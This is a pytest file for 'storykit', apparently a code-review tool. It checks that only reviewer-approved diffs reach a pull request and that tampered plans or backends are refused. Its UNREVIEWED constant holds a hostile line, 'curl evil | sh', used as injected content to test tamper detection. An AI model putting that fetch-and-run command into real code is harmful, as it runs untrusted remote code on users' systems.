"""What ships is what was approved: the core derives and verifies every variant's diff.

SPEC §4: a branch or PR commits exactly the approved diffs of the suggestions it names,
as the core verifies them by diff hash; planners and backends group and order, never author.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from storykit.backends import PRRequest
from storykit.errors import Conflict, PluginError
from storykit.hookspecs import hookimpl
from storykit.ids import new_id
from storykit.models import Plan, PRResult, Risk, Status, Suggestion, Variant
from storykit.services import Storykit
from storykit.testing import AGENT, REVIEWER, make_diff, open_core

pytestmark = pytest.mark.anyio

DIFF = make_diff("pkg/mod.py", "a = 1\nb = 1\n", "a = 2\nb = 1\n")
OTHER_DIFF = make_diff("pkg/mod.py", "a = 1\nb = 1\n", "a = 3\nb = 1\n")
FAR_DIFF = make_diff("docs/x.md", "x\n", "y\n")
UNREVIEWED = "+import os; os.system('curl evil | sh')\n"

Shape = Callable[[str, Sequence[Suggestion]], Sequence[Variant]]


def _all(goal: str, suggestions: Sequence[Suggestion]) -> Sequence[Variant]:
    ids = tuple(s.id for s in suggestions)
    return [Variant(key="all", title="All", suggestion_ids=ids)]


class ShapedPlanner:
    """A planner whose variants a test chooses."""

    def __init__(self, name: str, shape: Shape) -> None:
        self.name = name
        self.shape = shape

    async def plan(self, goal: str, suggestions: Sequence[Suggestion]) -> Sequence[Variant]:
        return self.shape(goal, suggestions)


class PlannerPlugin:
    def __init__(self, shape: Shape = _all, name: str = "shaped") -> None:
        self.planner = ShapedPlanner(name, shape)

    @hookimpl
    def storykit_register_planners(self, register: Any) -> None:
        register(self.planner)


class Backend:
    """A dry-run backend that returns the diff it was given, or one it makes up."""

    name = "dry-run"
    capabilities: frozenset[str] = frozenset()

    def __init__(self, tamper: Callable[[str], str] = lambda d: d) -> None:
        self.tamper = tamper
        self.requests: list[PRRequest] = []

    async def open(self, request: PRRequest) -> PRResult:
        self.requests.append(request)
        return PRResult(
            backend=self.name,
            branch=request.branch,
            diff=self.tamper(request.variant.diff),
            dry_run=True,
            plan_id=request.plan_id,
            variant=request.variant.key,
        )


class BackendPlugin:
    def __init__(self, backend: Backend | None = None) -> None:
        self.backend = backend or Backend()

    @hookimpl
    def storykit_register_pr_backends(self, register: Any) -> None:
        register(self.backend)


async def _approved(core: Storykit, diff: str = DIFF, title: str = "Bump a") -> Suggestion:
    s = await core.submit(AGENT, title=title, diff=diff)
    return await core.review(REVIEWER, s.id, action="approve")


async def _event_types(core: Storykit, after: int) -> list[str]:
    return [e.type for e in await core.read_events(after=after)]


# -- point 1: a stale plan ships nothing ------------------------------------------------


async def test_a_plan_made_before_a_revision_cannot_ship_after_reapproval(
    tmp_path: Path,
) -> None:
    backend = BackendPlugin()
    plugins = {"planner": PlannerPlugin(), "pr": backend}
    async with open_core(tmp_path, plugins=plugins) as core:
        s = await _approved(core)
        plan = await core.plan(REVIEWER, goal="ship")
        assert plan.variants[0].suggestion_hashes == {s.id: s.diff_hash}
        await core.revise(AGENT, s.id, diff=OTHER_DIFF)
        with pytest.raises(Conflict, match="make a new plan"):
            await core.open_pr(REVIEWER, plan.id, variant="all")
        again = await core.review(REVIEWER, s.id, action="approve")
        assert again.status is Status.APPROVED and again.diff == OTHER_DIFF
        before = await core.store.last_event_id()
        with pytest.raises(Conflict, match=rf"{s.id}.*make a new plan"):
            await core.open_pr(REVIEWER, plan.id, variant="all")
        assert backend.backend.requests == []
        assert await _event_types(core, before) == []
        # A new plan takes the approved revision.
        fresh = await core.plan(REVIEWER, goal="ship")
        result = await core.open_pr(REVIEWER, fresh.id, variant="all")
        assert result.diff == OTHER_DIFF


async def test_a_stored_plan_without_recorded_hashes_needs_a_new_plan(tmp_path: Path) -> None:
    plugins = {"planner": PlannerPlugin(), "pr": BackendPlugin()}
    async with open_core(tmp_path, plugins=plugins) as core:
        s = await _approved(core)
        # A plan stored by an earlier storykit: variants without suggestion_hashes.
        old = Plan.from_dict(
            {
                "id": new_id("plan"),
                "goal": "old",
                "created_by": "alice",
                "variants": [
                    {"key": "all", "title": "All", "suggestion_ids": [s.id], "diff": DIFF}
                ],
            }
        )
        assert old.variants[0].suggestion_hashes == {}
        await core.store.write("plan.created", {"id": old.id}, plans=[old])
        with pytest.raises(Conflict, match="make a new plan"):
            await core.open_pr(REVIEWER, old.id, variant="all")


async def test_a_tampered_stored_diff_is_refused(tmp_path: Path) -> None:
    plugins = {"planner": PlannerPlugin(), "pr": BackendPlugin()}
    async with open_core(tmp_path, plugins=plugins) as core:
        await _approved(core)
        plan = await core.plan(REVIEWER, goal="ship")
        bad = dataclasses.replace(plan.variants[0], diff=plan.variants[0].diff + UNREVIEWED)
        await core.store.write(
            "plan.selected", {"id": plan.id}, plans=[dataclasses.replace(plan, variants=(bad,))]
        )
        with pytest.raises(Conflict, match="make a new plan"):
            await core.open_pr(REVIEWER, plan.id, variant="all")


# -- point 2: planners group and order, the core derives the diff --------------------------


async def test_a_planner_cannot_put_unreviewed_lines_into_a_variant(tmp_path: Path) -> None:
    def lying(goal: str, suggestions: Sequence[Suggestion]) -> Sequence[Variant]:
        ids = tuple(s.id for s in suggestions)
        return [
            Variant(
                key="all",
                title="All",
                suggestion_ids=ids,
                diff=suggestions[0].diff + UNREVIEWED,
                risk=Risk.HIGH,
                planner="someone-else",
            )
        ]

    backend = BackendPlugin()
    plugins = {"liar": PlannerPlugin(lying), "pr": backend}
    async with open_core(tmp_path, plugins=plugins) as core:
        s = await _approved(core, FAR_DIFF)
        plan = await core.plan(REVIEWER, goal="ship")
        [variant] = plan.variants
        assert variant.diff == FAR_DIFF  # the approved diff, not the planner's
        assert variant.planner == "shaped"  # the planner that registered, not a claimed name
        assert variant.risk is s.risk is Risk.LOW  # worked out from the suggestions
        assert (await core.get_plan(plan.id)).variants[0].diff == FAR_DIFF
        result = await core.open_pr(REVIEWER, plan.id, variant="all")
        assert result.diff == FAR_DIFF
        assert backend.backend.requests[0].variant.diff == FAR_DIFF


async def test_the_core_combines_in_the_planners_order_and_reports_conflicts(
    tmp_path: Path,
) -> None:
    def reversed_order(goal: str, suggestions: Sequence[Suggestion]) -> Sequence[Variant]:
        ids = tuple(s.id for s in reversed(suggestions))
        return [Variant(key="all", title="All, newest first", suggestion_ids=ids)]

    plugins = {"planner": PlannerPlugin(reversed_order), "pr": BackendPlugin()}
    async with open_core(tmp_path, plugins=plugins) as core:
        first = await _approved(core, DIFF, "first")
        far = await _approved(core, FAR_DIFF, "far")
        clash = await _approved(core, OTHER_DIFF, "clash")
        plan = await core.plan(REVIEWER, goal="ship")
        [variant] = plan.variants
        # The planner put ``clash`` first, so it is kept and ``first`` is left out.
        assert variant.suggestion_ids == (clash.id, far.id)
        assert [c.suggestion_ids for c in variant.conflicts] == [(clash.id, first.id)]
        assert variant.suggestion_hashes == {clash.id: clash.diff_hash, far.id: far.diff_hash}
        assert variant.diff == OTHER_DIFF + FAR_DIFF
        # The left-out suggestion changing later does not make the plan stale.
        await core.revise(AGENT, first.id, diff=make_diff("pkg/mod.py", "a = 1\n", "a = 9\n"))
        result = await core.open_pr(REVIEWER, plan.id, variant="all")
        assert result.diff == OTHER_DIFF + FAR_DIFF


@pytest.mark.parametrize(
    ("shape", "message"),
    [
        (
            lambda g, ss: [Variant(key="all", title="t", suggestion_ids=("sug_nope",))],
            "put sug_nope in variant 'all', which is not one of the approved suggestions",
        ),
        (
            lambda g, ss: [Variant(key="all", title="t", suggestion_ids=(ss[0].id, ss[0].id))],
            "twice",
        ),
        (lambda g, ss: [Variant(key="", title="t", suggestion_ids=())], "no key"),
        (lambda g, ss: ["not a variant"], "not a Variant"),
    ],
)
async def test_a_variant_the_core_cannot_verify_is_the_planners_error(
    tmp_path: Path, shape: Shape, message: str
) -> None:
    async with open_core(tmp_path, plugins={"odd-planner": PlannerPlugin(shape)}) as core:
        await _approved(core)
        before = await core.store.last_event_id()
        with pytest.raises(PluginError, match=message) as caught:
            await core.plan(REVIEWER, goal="ship")
        assert caught.value.plugin == "odd-planner"
        assert caught.value.hook == "Planner.plan"
        assert await _event_types(core, before) == []
        assert await core.list_plans() == []


async def test_a_suggestion_given_but_unapproved_cannot_be_named(tmp_path: Path) -> None:
    pending: list[str] = []

    def sneaky(goal: str, suggestions: Sequence[Suggestion]) -> Sequence[Variant]:
        ids = (*(s.id for s in suggestions), *pending)
        return [Variant(key="all", title="t", suggestion_ids=ids)]

    async with open_core(tmp_path, plugins={"sneaky": PlannerPlugin(sneaky)}) as core:
        s = await _approved(core)
        other = await core.submit(AGENT, title="unreviewed", diff=FAR_DIFF)
        pending.append(other.id)
        with pytest.raises(
            PluginError, match=f"put {other.id} in variant 'all', which is not one of"
        ):
            await core.plan(REVIEWER, goal="ship", suggestion_ids=[s.id])


async def test_a_backend_that_reports_another_diff_is_not_recorded(tmp_path: Path) -> None:
    backend = Backend(tamper=lambda d: d + UNREVIEWED)
    plugins = {"planner": PlannerPlugin(), "forge-x": BackendPlugin(backend)}
    async with open_core(tmp_path, plugins=plugins) as core:
        await _approved(core)
        plan = await core.plan(REVIEWER, goal="ship")
        before = await core.store.last_event_id()
        with pytest.raises(PluginError, match="not the approved diff") as caught:
            await core.open_pr(REVIEWER, plan.id, variant="all")
        assert caught.value.plugin == "forge-x"
        assert caught.value.hook == "PRBackend.open"
        assert await _event_types(core, before) == []
        assert ("forge-x", "PRBackend.open") in {(f.plugin, f.hook) for f in core.registry.failures}


# -- point 3: a re-approval after a revision takes effect ---------------------------------


async def test_reapproval_after_a_same_diff_revision_takes_effect(tmp_path: Path) -> None:
    async with open_core(tmp_path) as core:
        s = await _approved(core)
        revised = await core.revise(AGENT, s.id, diff=DIFF, title="Bump a, better title")
        assert revised.status is Status.PENDING and revised.revision == 2
        before = await core.store.last_event_id()
        again = await core.review(REVIEWER, s.id, action="approve")
        assert again.status is Status.APPROVED
        assert (await core.get_suggestion(s.id)).status is Status.APPROVED
        assert [r.revision for r in again.reviews] == [1, 2]
        assert await _event_types(core, before) == ["suggest.reviewed"]
        # A true replay (same reviewer, action, comment, diff and revision) still changes nothing.
        middle = await core.store.last_event_id()
        assert await core.review(REVIEWER, s.id, action="approve") == again
        assert await core.store.last_event_id() == middle


# -- point 16: a key clash names the plugin that returned the clashing key -----------------


async def test_a_variant_key_clash_names_the_plugin_that_returned_it(tmp_path: Path) -> None:
    # pluggy calls the plugin registered last first, so "second" returns 'all' first.
    plugins = {"first": PlannerPlugin(name="one"), "second": PlannerPlugin(name="two")}
    async with open_core(tmp_path, plugins=plugins) as core:
        await _approved(core)
        with pytest.raises(PluginError, match="'all', which plugin 'second' already") as caught:
            await core.plan(REVIEWER, goal="ship")
        assert caught.value.plugin == "first"

    def twice(goal: str, suggestions: Sequence[Suggestion]) -> Sequence[Variant]:
        return [*_all(goal, suggestions), *_all(goal, suggestions)]

    async with open_core(tmp_path / "2", plugins={"doubler": PlannerPlugin(twice)}) as core:
        await _approved(core)
        with pytest.raises(PluginError, match="'all' twice") as caught:
            await core.plan(REVIEWER, goal="ship")
        assert caught.value.plugin == "doubler"
